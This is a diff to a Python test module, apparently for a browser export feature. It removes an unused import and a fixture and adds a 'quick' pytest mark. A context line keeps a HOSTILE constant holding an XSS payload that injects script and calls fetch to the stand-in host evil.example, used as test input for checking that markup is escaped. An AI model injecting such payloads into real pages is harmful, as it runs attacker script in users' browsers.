@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 import shutil
-from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -16,14 +15,10 @@ if TYPE_CHECKING:
     from tests.kit.browser import Browser, Page
     from tests.kit.computer import Computer
 
+pytestmark = pytest.mark.quick
+
 HOSTILE = '"><img src=x onerror=alert(1)></script><script>document.title="owned";fetch("http://evil.example/")</script>'
 STAYS = ("bundle", "created")  # what differs between two answers that say the same
-
-
-@pytest.fixture
-def computer(computer: Computer) -> Computer:
-    """The same computer; these are long stories of many commands."""
-    return replace(computer, quick=True)
 
 
 def exported(computer: Computer, *words: str, ref: str = "canon") -> Path:
